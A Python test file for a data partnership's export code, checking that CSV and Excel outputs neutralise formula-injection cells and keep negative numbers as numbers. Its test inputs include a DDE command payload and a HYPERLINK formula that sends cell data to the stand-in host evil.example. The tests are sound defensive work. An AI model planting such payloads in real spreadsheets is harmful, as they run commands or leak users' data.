"""Every CSV and Excel file people open neutralises formula-looking text (OWASP "CSV Injection": a cell starting
with = + - @, tab or carriage return is prefixed with a single quote; in a workbook it is a text cell with Excel's
quote prefix), while numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tasks.shared.config import load_partnership_config
from tasks.shared.disclosure import PUBLISHED_COLUMNS
from tasks.shared.exports import csv_text, neutralise, write_csv
from tasks.shared.settings import PROJECT_ROOT
from tasks.shared.workbook import notes_rows, write_workbook

CONFIG = load_partnership_config(PROJECT_ROOT / "config", "castle-point-rochford")
ATTACKS = ["=1+2", "+SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+2", "\r=1+2",
           '=HYPERLINK("http://evil.example/?"&A1,"x")']
NUMBERS = ["-20.0", "-3", "+4", "12.5", "0", "-1e-05"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_looking_text_gets_a_leading_quote(attack: str) -> None:
    assert neutralise(attack) == "'" + attack


@pytest.mark.parametrize("number", NUMBERS)
def test_signed_numbers_are_left_as_numbers(number: str) -> None:
    assert neutralise(number) == number
    assert neutralise(-3.5) == -3.5


def _published(texts: list[str]) -> pd.DataFrame:
    """A published measures table (all text, as the disclosure step writes it) with attacks in its text columns and
    a negative change in its numeric column."""
    rows = []
    for i, text in enumerate(texts):
        row = {column: "" for column in PUBLISHED_COLUMNS}
        row.update(measure=text, area_name=text, note=text, area_code="E07000069", financial_year="2022/23",
                   count=str(10 + i), value="11.5", change_on_previous_year_percent="-20.0")
        rows.append(row)
    return pd.DataFrame(rows, columns=PUBLISHED_COLUMNS)


def _csv_cells(text: str) -> pd.DataFrame:
    # the csv module, as a spreadsheet does, keeps a quoted carriage return inside its cell
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    return pd.DataFrame(rows, columns=header)


def _xml(text: str) -> str:
    """A text as it reads back from a workbook: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n")


def _in_csv(text: str) -> str:
    """What a neutralised text reads back as from a CSV: quoted, a carriage return turned into a line feed (a bare
    CR would end the row in Excel, and the rest would be a row of its own)."""
    return "'" + text.replace("\r", "\n")


def _assert_neutral_csv(text: str, texts: list[str], columns: list[str]) -> None:
    assert "\r" not in text  # no bare carriage return anywhere: rows stay rows
    cells = _csv_cells(text)
    assert len(cells) == len(texts)
    for column in columns:
        assert list(cells[column]) == [_in_csv(t) for t in texts], column
    # nothing a spreadsheet would run: every cell starting with a trigger is a plain number
    for value in cells.to_numpy().ravel():
        assert not value.startswith(("=", "+", "@", "\t", "\r")) or re.fullmatch(r"[+-]?[\d.eE+-]+", value), value
        if value.startswith("-"):
            float(value)  # a minus sign only in front of a number


def test_the_published_measures_csv(tmp_path: Path) -> None:
    # the compute stage writes measures-published.csv, not-computed.csv and the internal breakdowns with write_csv
    path = write_csv(_published(ATTACKS), tmp_path / "measures-published.csv")
    _assert_neutral_csv(path.read_text(encoding="utf-8"), ATTACKS, ["measure", "area_name", "note"])
    cells = _csv_cells(path.read_text(encoding="utf-8"))
    assert set(cells["change_on_previous_year_percent"]) == {"-20.0"}  # negative numbers stay numbers
    assert float(cells["change_on_previous_year_percent"][0]) == -20.0


def test_a_table_with_numeric_columns_keeps_its_numbers() -> None:
    frame = pd.DataFrame({"file": ATTACKS, "row": range(2, 2 + len(ATTACKS)), "value": [-2.5] * len(ATTACKS)})
    cells = _csv_cells(csv_text(frame))
    assert list(cells["file"]) == [_in_csv(t) for t in ATTACKS]
    assert set(cells["value"]) == {"-2.5"} and list(cells["row"]) == [str(r) for r in range(2, 2 + len(ATTACKS))]


def test_the_measures_workbook(tmp_path: Path) -> None:
    notes = notes_rows(CONFIG.metrics, "=HYPERLINK(\"http://evil.example\")")
    path = write_workbook(_published(ATTACKS), tmp_path / "measures.xlsx", notes)
    book = openpyxl.load_workbook(path)  # formulas as written, not computed values
    sheet = book["measures"]
    header = [c.value for c in sheet[1]]
    for row_number, attack in enumerate(ATTACKS, start=2):
        for column in ("measure", "area_name", "note"):
            cell = sheet.cell(row=row_number, column=header.index(column) + 1)
            assert cell.data_type == "s" and cell.value == _xml(attack) and cell.quotePrefix, (column, cell.value)
        change = sheet.cell(row=row_number, column=header.index("change_on_previous_year_percent") + 1)
        assert change.data_type == "n" and change.value == -20.0  # a negative number stays a number
    title = book["notes"]["A1"]
    assert title.data_type == "s" and title.quotePrefix


def _failure(value: str, name: str = "knife.csv") -> dict:
    return {"source_id": "police-knife-crime", "original_name": name, "source_row": 3, "column": "Offences",
            "value": value, "rule": "Offences are whole numbers", "severity": "critical"}


def test_the_data_quality_listing_attached_to_a_data_owners_report() -> None:
    from tasks.notify.messages import data_quality_messages

    files = pd.DataFrame([{"source_id": "police-knife-crime", "original_name": "knife.csv", "period": "2022-04",
                           "status": "quarantined", "reason": "failed critical checks", "rows_read": 9,
                           "rows_loaded": 0, "received_at": dt.datetime(2023, 5, 2, 9)}])
    failures = pd.DataFrame([_failure(a) for a in ATTACKS] + [_failure("-2")])
    [police] = [m for m in data_quality_messages(CONFIG, "2022/23", files, failures)
                if m.recipient.id == "essex-police-analyst"]
    [(_, data)] = police.files.items()
    cells = _csv_cells(data.decode("utf-8"))
    assert list(cells["value"][:-1]) == [_in_csv(a) for a in ATTACKS]
    assert cells["value"].iloc[-1] == "-2"  # a partner's negative count, quoted as it was


def test_the_submission_packages_measures_csv() -> None:
    from tasks.submit.package import measures_csv

    _assert_neutral_csv(measures_csv(_published(ATTACKS)).decode("utf-8"), ATTACKS, ["measure", "area_name", "note"])


def test_the_submission_packages_measures_workbook() -> None:
    from tasks.submit.package import measures_xlsx

    book = openpyxl.load_workbook(io.BytesIO(measures_xlsx(_published(ATTACKS), [["=1+2", "x"]])))
    sheet = book["measures"]
    header = [c.value for c in sheet[1]]
    for row_number, attack in enumerate(ATTACKS, start=2):
        cell = sheet.cell(row=row_number, column=header.index("measure") + 1)
        assert cell.data_type == "s" and cell.value == _xml(attack) and cell.quotePrefix
        change = sheet.cell(row=row_number, column=header.index("change_on_previous_year_percent") + 1)
        assert change.data_type == "n" and change.value == -20.0
    assert book["notes"]["A1"].data_type == "s" and book["notes"]["A1"].quotePrefix


# Writers of CSV or Excel for people: each goes through tasks/shared/exports.py. A new .to_csv( or Workbook()
# elsewhere fails here until it does.
KNOWN_WRITERS = {
    "tasks/shared/exports.py": ".to_csv(",
    "tasks/shared/workbook.py": "Workbook()",
    "tasks/submit/package.py": "Workbook()",  # text through its own _text_cell (quote prefix), tested above
}
KNOWN_UNPROTECTED: set[str] = set()


def test_every_csv_and_excel_writer_is_known() -> None:
    found = {}
    for folder in ("tasks", "dutycycle", "flows"):
        for path in (PROJECT_ROOT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            for needle in (".to_csv(", ".to_excel(", "Workbook()", "csv.writer(", "csv.DictWriter("):
                if needle in text:
                    found.setdefault(path.relative_to(PROJECT_ROOT).as_posix(), set()).add(needle)
    unexpected = {path: needles for path, needles in found.items()
                  if path not in KNOWN_WRITERS and path not in KNOWN_UNPROTECTED}
    assert not unexpected, f"write CSV/Excel for people through tasks/shared/exports.py: {unexpected}"
